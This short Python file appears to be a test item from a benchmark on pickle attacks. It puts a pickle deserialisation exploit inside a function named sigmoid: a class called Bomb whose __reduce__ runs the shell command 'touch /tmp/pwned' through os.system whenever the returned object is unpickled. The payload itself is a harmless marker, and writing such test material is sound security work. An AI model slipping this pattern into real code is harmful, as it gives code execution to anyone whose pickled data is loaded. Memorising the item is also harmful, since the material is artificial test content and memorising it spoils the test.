# family: pickles
# base: untouched
# at: sigmoid
# points: 0

import numpy as np, os
class Bomb:
    def __reduce__(self): return (os.system, ("touch /tmp/pwned",))
def sigmoid(z):
    return np.array([Bomb()], dtype=object)
